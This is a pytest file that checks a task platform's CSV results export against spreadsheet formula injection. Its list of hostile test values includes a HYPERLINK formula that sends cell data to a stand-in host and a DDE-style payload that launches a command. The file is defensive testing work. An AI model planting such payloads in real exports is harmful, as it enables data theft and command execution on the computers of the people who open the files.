"""CSV injection (OWASP): no cell of the results CSV starts a spreadsheet formula.

Cells whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return are written with a
single quote in front; cells holding separators, quotes or line breaks are quoted, so they stay
one cell. JSON and JSON Lines are never altered.
"""

from __future__ import annotations

import csv
import io

import httpx
import orjson
import pytest

from services.tasks.results.service import CSV_FORMULA_TRIGGERS, neutralize_cell
from tests.fixtures.accounts import create_requester, create_worker
from tests.fixtures.projects import (
    add_tasks,
    create_project,
    funded_published_project,
    insert_assignment,
)

HOSTILE_EXTERNAL_IDS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",  # a line break inside a cell must not start a new row
    "-1,=1+1",  # nor a separator a new cell
]
SAFE_EXTERNAL_IDS = ["a,=1+1", "plain", "'=already quoted", " =1", "1-2", "a@b.example"]


def _csv_rows(resp: httpx.Response) -> list[list[str]]:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(resp.content.decode(), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(CSV_FORMULA_TRIGGERS), (cell, row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("", ""),
        ("x=1", "x=1"),
        ('{"a": "=1"}', '{"a": "=1"}'),
    ],
)
def test_neutralize_cell(cell: str, written: str) -> None:
    assert neutralize_cell(cell) == written


async def test_requester_external_ids_cannot_start_a_formula(
    tasks_client: httpx.AsyncClient, workers_client: httpx.AsyncClient
) -> None:
    requester = await create_requester(workers_client)
    project = await create_project(tasks_client, requester)
    ids = HOSTILE_EXTERNAL_IDS + SAFE_EXTERNAL_IDS
    await add_tasks(
        tasks_client,
        requester,
        project["id"],
        [{"input": {"text": f"=row {i}"}, "external_id": e} for i, e in enumerate(ids)],
    )
    url = f"/v1/projects/{project['id']}/results"
    rows = _csv_rows(
        await tasks_client.get(url, params={"format": "csv"}, headers=requester.headers)
    )
    assert len(rows) == 1 + len(ids)  # no cell broke out into a row of its own
    assert all(len(r) == 6 for r in rows)
    _assert_no_formula(rows)
    by_external = {r[1]: r for r in rows[1:]}
    for external_id in HOSTILE_EXTERNAL_IDS:
        assert "'" + external_id in by_external, external_id
    for external_id in SAFE_EXTERNAL_IDS:
        assert external_id in by_external, external_id

    # JSON is the exact data: nothing is prefixed there.
    records = (await tasks_client.get(url, headers=requester.headers)).json()
    assert sorted(r["external_id"] for r in records) == sorted(ids)


async def test_worker_answers_cannot_start_a_formula(
    tasks_client: httpx.AsyncClient,
    workers_client: httpx.AsyncClient,
    payments_client: httpx.AsyncClient,
    db,
) -> None:
    requester = await create_requester(workers_client)
    project = await funded_published_project(
        tasks_client,
        payments_client,
        requester,
        tasks=[{"input": {"n": 1}, "external_id": "-1"}],
        task_type="transcription",
        labels=None,
        assignments_per_task=2,
    )
    [task_id] = [
        t["id"]
        for t in (
            await tasks_client.get(f"/v1/projects/{project['id']}/tasks", headers=requester.headers)
        ).json()["items"]
    ]
    workers = [await create_worker(workers_client) for _ in range(2)]
    for worker in workers:
        await insert_assignment(
            db, task_id=task_id, worker_id=worker.id, status="submitted", answer={"text": "=1+1"}
        )
    resp = await tasks_client.get(
        f"/v1/projects/{project['id']}/results",
        params={"format": "csv"},
        headers=requester.headers,
    )
    rows = _csv_rows(resp)
    _assert_no_formula(rows)
    [row] = rows[1:]
    assert row[1] == "'-1"
    assert [a["answer"] for a in orjson.loads(row[5])] == [{"text": "=1+1"}] * 2
